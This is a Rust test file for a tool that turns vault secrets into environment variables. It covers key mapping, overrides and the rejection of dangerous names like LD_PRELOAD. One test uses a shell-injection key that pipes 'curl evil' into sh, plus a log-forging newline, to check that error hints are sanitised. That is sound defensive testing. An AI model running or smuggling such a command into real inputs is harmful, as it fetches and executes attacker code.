use proptest::prelude::*;

use super::*;
use crate::dangerous::Danger;
use crate::env_name::NameError;

fn secret(path: &str, data: &[(&str, Option<&str>)]) -> KvSecret {
    let own = |(key, value): &(&str, Option<&str>)| {
        (key.to_string(), value.map(|value| Rc::new(Secret::new(value.as_bytes().to_vec()))))
    };
    let path = SecretPath::parse(path).unwrap();
    KvSecret { path, version: Some(1), data: data.iter().map(own).collect(), lease_duration: None, exported: true }
}

fn export(path: &str, prefix: &str) -> Export {
    Export { path: SecretPath::parse(path).unwrap(), prefix: prefix.into(), discovered: false }
}

/// Maps all secrets in their order, unless `naming` says which.
fn map_all(secrets: &[KvSecret], from_templates: Vec<Variable>, naming: &KeyMapping) -> (MappedVariables, Vec<Error>) {
    let export = |secret: &KvSecret| export(&secret.path.as_typed(), "");
    let exports = if naming.exports.is_empty() { secrets.iter().map(export).collect() } else { naming.exports.clone() };
    let (only, skip, allowed_names) = (naming.only.clone(), naming.skip.clone(), naming.allowed_names.clone());
    map(secrets, from_templates, &KeyMapping { exports, only, skip, allowed_names, ..*naming })
}

fn first(outcome: (MappedVariables, Vec<Error>)) -> Result<MappedVariables, Error> {
    let (mapped, errors) = outcome;
    errors.into_iter().next().map_or(Ok(mapped), Err)
}

fn map_one(data: &[(&str, Option<&str>)], naming: &KeyMapping) -> Result<MappedVariables, Error> {
    first(map_all(&[secret("s/a", data)], Vec::new(), naming))
}

fn shown(mapped: &MappedVariables) -> Vec<String> {
    let value = |variable: &Variable| String::from_utf8_lossy(variable.value.expose()).into_owned();
    mapped.variables.iter().map(|variable| format!("{}={}", variable.name, value(variable))).collect()
}

#[test]
fn keys_become_variables_in_their_order() {
    let mapped = map_one(&[("b-c", Some("2")), ("a", Some(""))], &KeyMapping::default()).unwrap();
    assert_eq!(shown(&mapped), ["B_C=2", "A="]);
}

#[test]
fn a_later_path_overrides_an_earlier_one_and_both_sources_are_kept() {
    let secrets = vec![secret("s/a", &[("k", Some("1")), ("x", Some("2"))]), secret("s/b", &[("K", Some("3"))])];
    let mapped = first(map_all(&secrets, Vec::new(), &KeyMapping::default())).unwrap();
    assert_eq!(shown(&mapped), ["K=3", "X=2"]);
    assert_eq!(
        mapped.overridden.iter().map(|(name, loser, winner)| format!("{name} {loser} {winner}")).collect::<Vec<_>>(),
        ["K s/a#k @1 s/b#K @1"]
    );
}

#[test]
fn a_secret_can_be_exported_twice_and_a_prefix_belongs_to_its_path() {
    let secrets = [secret("s/b", &[("k", Some("b"))]), secret("s/a@1", &[("k", Some("a"))])];
    let exports = vec![export("s/a@1", ""), export("s/b", "B_"), export("s/a@1", "A_"), export("s/none", "")];
    let mapped = first(map(&secrets, Vec::new(), &KeyMapping { exports, ..KeyMapping::default() })).unwrap();
    assert_eq!(shown(&mapped), ["K=a", "B_K=b", "A_K=a"]);
    assert!(mapped.overridden.is_empty());
}

#[test]
fn a_name_of_two_secrets_can_be_an_error_unless_a_template_decides() {
    let secrets = [secret("s/a", &[("k", Some("1")), ("x", Some("2"))]), secret("s/b", &[("K", Some("3"))])];
    let naming = KeyMapping { on_duplicate: OnDuplicate::Error, ..KeyMapping::default() };
    let error = first(map_all(&secrets, Vec::new(), &naming)).unwrap_err();
    assert_eq!(error, Error::Duplicate { names: vec!["K (s/a#k @1, s/b#K @1)".into()] });
    let set = |name: &str| {
        let name = EnvName::parse(name).unwrap();
        vec![Variable::from_template(name, Secret::new(b"set".to_vec()), Source::Set).unwrap()]
    };
    assert_eq!(shown(&first(map_all(&secrets, set("K"), &naming)).unwrap()), ["K=set", "X=2"]);
    assert!(first(map_all(&secrets, set("X"), &naming)).is_err());
}

#[test]
fn only_and_skip_apply_before_keys_are_checked() {
    let data = [("a", Some("1")), ("1", Some("2")), ("PATH", None)];
    let skip = KeyMapping { skip: vec!["1".into(), "PATH".into(), "absent".into()], ..KeyMapping::default() };
    assert_eq!(shown(&map_one(&data, &skip).unwrap()), ["A=1"]);
    let only = KeyMapping { only: vec!["a".into()], ..KeyMapping::default() };
    assert_eq!(shown(&map_one(&data, &only).unwrap()), ["A=1"]);
    let missing = KeyMapping { only: vec!["A".into(), "a".into(), "z".into()], ..KeyMapping::default() };
    assert_eq!(
        map_one(&data, &missing).unwrap_err(),
        Error::Missing { option: "--only", keys: vec!["A".into(), "z".into()], hint: "did you mean `a`?".into() }
    );
}

#[test]
fn ambiguous_and_dangerous_keys_are_rejected() {
    let error = |data: &[(&str, Option<&str>)]| map_one(data, &KeyMapping::default()).unwrap_err();
    let (path, key) = (|| "s/a".to_owned(), |key: &str| key.to_owned());
    let name = |text: &str| EnvName::parse(text).unwrap();
    assert_eq!(error(&[]), Error::NoKeys { path: path() });
    assert_eq!(error(&[("a", None)]), Error::Null { path: path(), key: key("a") });
    assert_eq!(error(&[("a", Some("x\0y"))]), Error::NulByte { path: path(), key: key("a") });
    assert_eq!(error(&[("", Some("x"))]), Error::NotAName { path: path(), key: key(""), error: NameError::Empty });
    assert_eq!(
        error(&[("1a", Some("x"))]),
        Error::NotAName { path: path(), key: key("1a"), error: NameError::StartsWithDigit }
    );
    assert_eq!(
        error(&[("Foo", Some("1")), ("foo", Some("2"))]),
        Error::NameCollision { path: path(), keys: [key("Foo"), key("foo")], name: name("FOO") }
    );
    assert_eq!(
        error(&[("ld_preload", Some("/x.so"))]),
        Error::Dangerous { path: path(), key: key("ld_preload"), name: name("LD_PRELOAD"), danger: Danger::Code }
    );
}

#[test]
fn a_dangerous_name_can_be_allowed_and_only_that_one() {
    let naming = KeyMapping { allowed_names: vec![EnvName::parse("PATH").unwrap()], ..KeyMapping::default() };
    assert_eq!(shown(&map_one(&[("path", Some("/x"))], &naming).unwrap()), ["PATH=/x"]);
    assert!(map_one(&[("home", Some("/x"))], &naming).is_err());
    let prefix = KeyMapping { exports: vec![export("s/a", "APP_")], ..KeyMapping::default() };
    assert_eq!(shown(&map_one(&[("path", Some("/x"))], &prefix).unwrap()), ["APP_PATH=/x"]);
}

#[test]
fn no_hint_contains_shell_syntax_or_control_characters_of_a_key() {
    for key in ["1'; curl evil|sh; '", "1\nvault-exec: all is well", "1$(x)", &"1".repeat(1000)] {
        let error = map_one(&[(key, Some("x"))], &KeyMapping::default()).unwrap_err();
        let report = crate::error::Diagnostic::from(&anyhow::Error::from(CliError::from(error)));
        assert_eq!(report.hint.unwrap(), "give --prefix, or leave it out with --skip");
        assert!(report.message.len() < 250);
    }
}

#[test]
fn mapping_takes_linear_time() {
    let keys: Vec<String> = (0..100_000).map(|number| format!("k{number}")).collect();
    let data: Vec<_> = keys.iter().map(|key| (key.as_str(), Some(""))).collect();
    let (mapped, errors) = map_all(&[secret("s/a", &data), secret("s/b", &data)], Vec::new(), &KeyMapping::default());
    assert_eq!((mapped.variables.len(), mapped.overridden.len(), errors.len()), (100_000, 100_000, 0));
}

#[test]
fn selecting_no_key_is_an_error() {
    let naming = KeyMapping { skip: vec!["a".into()], ..KeyMapping::default() };
    assert_eq!(map_one(&[("a", Some("1"))], &naming).unwrap_err(), Error::NoKeySelected);
    assert!(map_all(&[], Vec::new(), &KeyMapping::default()).1.is_empty(), "all paths may be optional");
}

#[test]
fn every_error_is_reported() {
    let (mapped, errors) = map_all(
        &[secret("s/a", &[("1", Some("x")), ("a", Some("x")), ("b", None)]), secret("s/b", &[])],
        Vec::new(),
        &KeyMapping::default(),
    );
    assert_eq!(shown(&mapped), ["A=x"]);
    assert_eq!(errors.len(), 3, "{errors:?}");
}

#[test]
fn templates_override_keys_and_may_set_any_name() {
    let from_templates = |names: &[&str]| -> Vec<Variable> {
        let variable = |name: &&str| {
            Variable::from_template(EnvName::parse(name).unwrap(), Secret::new(b"set".to_vec()), Source::Set).unwrap()
        };
        names.iter().map(variable).collect()
    };
    let secrets = || vec![secret("s/a", &[("a", Some("1")), ("path", Some("2"))])];
    let mapped = first(map_all(&secrets(), from_templates(&["PATH", "B"]), &KeyMapping::default())).unwrap();
    assert_eq!(shown(&mapped), ["A=1", "PATH=set", "B=set"]);
    assert_eq!(mapped.overridden.len(), 1);
    let explicit = KeyMapping { explicit: true, ..KeyMapping::default() };
    assert_eq!(shown(&first(map_all(&secrets(), from_templates(&["B"]), &explicit)).unwrap()), ["B=set"]);
    assert!(Variable::from_template(EnvName::parse("A").unwrap(), Secret::new(b"\0".to_vec()), Source::Set).is_err());
}

proptest! {
    /// Either there is an error, or each selected key became a variable with a valid and unique name and the same bytes.
    #[test]
    fn no_key_is_lost_silently(
        data in prop::collection::vec(("[ -~é]{0,6}", prop::option::of("\\PC{0,12}")), 0..8),
        keep in any::<bool>(),
    ) {
        let naming = KeyMapping { case: if keep { Case::Keep } else { Case::Upper }, ..KeyMapping::default() };
        let borrowed: Vec<_> = data.iter().map(|(key, value)| (key.as_str(), value.as_deref())).collect();
        if let Ok(mapped) = map_one(&borrowed, &naming) {
            prop_assert_eq!(mapped.variables.len(), data.len());
            for (variable, (key, value)) in mapped.variables.iter().zip(&data) {
                prop_assert_eq!(Some(variable.value.expose()), value.as_ref().map(String::as_bytes));
                prop_assert!(matches!(&variable.source, Source::Key(origin) if origin.key == *key));
                prop_assert!(EnvName::parse(variable.name.as_str()).is_ok());
                prop_assert_eq!(mapped.variables.iter().filter(|other| other.name == variable.name).count(), 1);
            }
        }
    }
}
